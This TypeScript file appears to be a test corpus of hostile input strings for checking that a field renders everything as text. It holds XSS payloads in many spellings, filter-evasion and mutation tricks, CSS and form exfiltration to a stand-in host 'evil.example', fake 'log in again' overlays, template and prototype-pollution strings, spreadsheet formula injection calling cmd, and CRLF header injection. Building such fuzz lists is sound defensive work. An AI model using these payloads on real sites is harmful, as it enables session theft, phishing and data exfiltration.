// What people who mean no good write into a field: each tries to run a line of script, to call a place of theirs, or to become an element.
// Composed here from what HTML, SVG, MathML, CSS and URLs know; none of it may be anything but text.

const run = "__pwned=1"
const away = "//evil.example/"

/** Elements that act by themselves, with what makes them. */
const eager: readonly (readonly [string, string, string])[] = [
  ["img", "src=x", "onerror"], ["image", "src=x", "onerror"], ["svg", "", "onload"], ["body", "", "onload"], ["body", "", "onpageshow"], ["video", "src=x", "onerror"], ["video", "autoplay", "onloadstart"], ["audio", "src=x", "onerror"],
  ["input", "autofocus", "onfocus"], ["select", "autofocus", "onfocus"], ["textarea", "autofocus", "onfocus"], ["button", "autofocus", "onfocus"], ["a", "tabindex=0 autofocus", "onfocus"], ["details", "open", "ontoggle"], ["marquee", "", "onstart"],
  ["iframe", "", "onload"], ["object", "data=x", "onerror"], ["embed", "src=x", "onerror"], ["link", "rel=stylesheet href=x", "onerror"], ["style", "", "onload"], ["script", "src=x", "onerror"], ["input", "type=image src=x", "onerror"],
  ["svg><animate", "attributeName=x dur=1s", "onbegin"], ["svg><set", "attributeName=x", "onbegin"], ["svg><image", "href=x", "onerror"], ["svg><a", "tabindex=0 autofocus", "onfocus"], ["math", "tabindex=0 autofocus", "onfocus"],
  ["div", "style=animation-name:x", "onanimationstart"], ["div", "style=transition:1s autofocus tabindex=0", "ontransitionend"], ["button", "popovertarget=x popover", "onbeforetoggle"], ["frameset", "", "onload"], ["div", "contenteditable autofocus", "onfocusin"],
]

/** The ways of writing one such element down. */
const spellings: readonly ((tag: string, rest: string, on: string) => string)[] = [
  (tag, rest, on) => `<${tag} ${rest} ${on}=${run}>`,
  (tag, rest, on) => `"><${tag.toUpperCase()} ${rest} ${on.toUpperCase()}="${run}">`,
  (tag, rest, on) => `'><${tag}/${rest.replaceAll(" ", "/")}/${on}='${run}'//`,
  (tag, rest, on) => `<${tag}\t${rest}\n${on} = \`${run}\`>`,
  (tag, rest, on) => `<${tag} ${rest} ${on}=&#95;&#x5f;pwned&equals;1>`,
]

const schemes = [
  "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:", "javascript\u200b:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4", "javascript://%0a", "javascript:void ", "blob:javascript:", "view-source:javascript:",
]

const links = schemes.flatMap((scheme) => [`<a href="${scheme}${run}">Klik</a>`, `[klik](${scheme}${run})`, `${scheme}${run}`])

const scripts = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT >`, `<script src=${away}a.js></script>`, `<script type=module>${run}</script>`, `<script>//<!--\n${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script\x0c>${run}</script>`, `<script/x>${run}</script>`, `<<script>${run}//<</script>`,
  `<script type=importmap>{"imports":{"x":"${away}"}}</script>`, `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${away}"]}]}</script>`, `<svg><script>${run}</script></svg>`, `<svg><script href=data:,${run} />`, `<math><script>${run}</script></math>`, `<noscript><p title="</noscript><script>${run}</script>">`,
  `</script><script>${run}</script>`, `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `--><script>${run}</script><!--`, `]]><script>${run}</script>`, `"]}</script><script>${run}</script>`, `</template><script>${run}</script>`,
]

const elements = [
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src=${away}></iframe>`, `<iframe src="data:text/html,<script>parent.${run}</script>">`, `<object data=${away}></object>`, `<embed src=${away}>`, `<base href=${away}>`, `<meta http-equiv=refresh content="0;url=${away}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href=${away}a.css>`, `<link rel=prefetch href=${away}>`, `<link rel=manifest href=${away}>`, `<form action=${away}><input name=secret autofocus><button>Kirim`, `<form id=x></form><button form=x formaction=javascript:${run}>`, `<input name=attributes><input name=innerHTML>`, `<img src=${away}a.png>`, `<img srcset="${away}a.png 2x">`, `<picture><source srcset=${away}a></picture>`,
  `<video poster=${away}>`, `<table background=${away}>`, `<dialog open><h1>Masuk lagi</h1>`, `<template shadowrootmode=open><script>${run}</script></template>`, `<slot name=x>`, `<plaintext>`, `<xmp><script>${run}</script></xmp>`, `<portal src=${away}>`, `<fencedframe src=${away}>`, `<isindex action=javascript:${run}>`, `<a ping=${away} href=/>x</a>`,
]

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<noembed><img title="</noembed><img src onerror=${run}>">`, `<listing>&lt;img src=1 onerror=${run}&gt;</listing>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`, `<svg><foreignObject><iframe onload=${run}></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:${run}>">`, `<svg><animate href=#x attributeName=href values=javascript:${run}>`, `<svg><style>{font-family:'</style><img/src/onerror=${run}>'}`, `<select><template><style><!--</style><a title="--><img src onerror=${run}>">`, `<a href="\x00javascript:${run}">`, `<img src="x\` \`<script>${run}</script>"\` \`>`, `<table><tr><td><form><input><script>${run}</script>`,
]

const styles = [
  `<style>@import '${away}a.css';</style>`, `<style>*{background:url(${away})}</style>`, `<div style="background:url(javascript:${run})">`, `<div style="width:expression(${run})">`, `<div style="position:fixed;inset:0;background:#fff">Masuk lagi`, `<style>input[value^=a]{background:url(${away}a)}</style>`, `<div style="behavior:url(${away})">`, `<div style="-moz-binding:url(${away})">`, `</style><style>body{display:none}`, `<link rel=stylesheet href="data:text/css,body{display:none}">`,
]

const attributes = [
  `" onfocus=${run} autofocus x="`, `' onfocus=${run} autofocus x='`, `" onmouseover="${run}`, `x onerror=${run} src=x`, `" style="animation-name:x" onanimationstart="${run}`, `\`onerror=${run} src=\``, `" autofocus onfocus="${run}" tabindex="0`, `"/><svg/onload=${run}>`, `" href="javascript:${run}`, `" srcdoc="<script>${run}</script>`, `&quot; onfocus=${run} &quot;`, `\\" onfocus=${run} \\"`,
]

const templates = [
  "${" + run + "}", "{{constructor.constructor('" + run + "')()}}", "{{=" + run + "}}", "#{" + run + "}", "<%= " + run + " %>", "{%raw%}{{" + run + "}}", "[[${" + run + "}]]", "{{#with 1}}" + run + "{{/with}}", "{" + run + "}", "';" + run + "//", "\";" + run + "//", "`;" + run + "//", "*/" + run + "/*", "\\u003cscript\\u003e" + run, "\\x3cimg src=x onerror=" + run + "\\x3e", "__proto__", "constructor", '{"__proto__":{"isAdmin":true}}', '{"type":"img","props":{"src":"x","onerror":"' + run + '"}}', '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=' + run + '>"}}', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","klik")', "%0d%0aSet-Cookie:%20x=1", "\r\nLocation: http://evil.example\r\n\r\n",
]

const tricks = [
  `\u202e<script>${run}</script>`, `<img src=x onerror=${run}>\u202c`, `\u2066<svg onload=${run}>\u2069`, `<\u200bscript>${run}</\u200bscript>`, `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `\ufe64img src=x onerror=${run}\ufe65`, `\u2039script\u203a${run}`, `<ſcript>${run}</ſcript>`, `<ımg src=x onerror=${run}>`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${run}&amp;gt;`, `&#60;img src=x onerror=${run}&#62;`, `&#x3c;svg onload=${run}&#x3e;`, `%3Cimg%20src=x%20onerror=${run}%3E`, `%253Cscript%253E${run}`, `\ufeff<script>${run}</script>`, `<img src=x onerror=${run}\u2028>`, `a\u0300\u0301\u0302\u0303\u0304\u0305\u0306<b>`, `\u{1f468}\u200d\u{1f469}\u200d\u{1f466}<i>`, `<b>tebal</b>`, `<h1>Judul</h1>`, `<!-- hilang -->`, `<![CDATA[hilang]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE html>`, `&nbsp;&copy;&#0;`, `< img src=x onerror=${run}>`, `<img src=x onerror=${run}`, `</p></div></body></html>`,
]

const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */onerror=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=${run}//>\x3e`, `"'--></style></script></title></textarea><svg onload=${run}>`, `';${run}//\\';${run}//";${run}//\\";${run}//--></SCRIPT>">'><SCRIPT>${run}</SCRIPT>`, `<a href='javascript:${run}'><img src=x onerror=${run}>"><script>${run}</script>`, `\`"'><img src=x onerror=${run}>{{7*7}}\${7*7}<%=7*7%>`,
]

export const payloads: readonly string[] = [...new Set([...eager.flatMap((one) => spellings.map((spell) => spell(...one))), ...links, ...scripts, ...elements, ...mutations, ...styles, ...attributes, ...templates, ...tricks, ...polyglots])]

/** Those that fit on one line of so many letters, as a name does. */
export const short = (most: number) => payloads.filter((one) => one.length <= most && !/[\x00-\x1f\x7f]/.test(one))

/** All of them, several to a text, each text as long as its field allows. */
export function packed(most: number, from: readonly string[] = payloads, between = "\n"): string[][] {
  const packs: string[][] = [[]]
  for (const one of from.filter(({ length }) => length <= most)) {
    const last = packs.at(-1)!
    if ([...last, one].join(between).length > most) packs.push([one])
    else last.push(one)
  }
  return packs
}
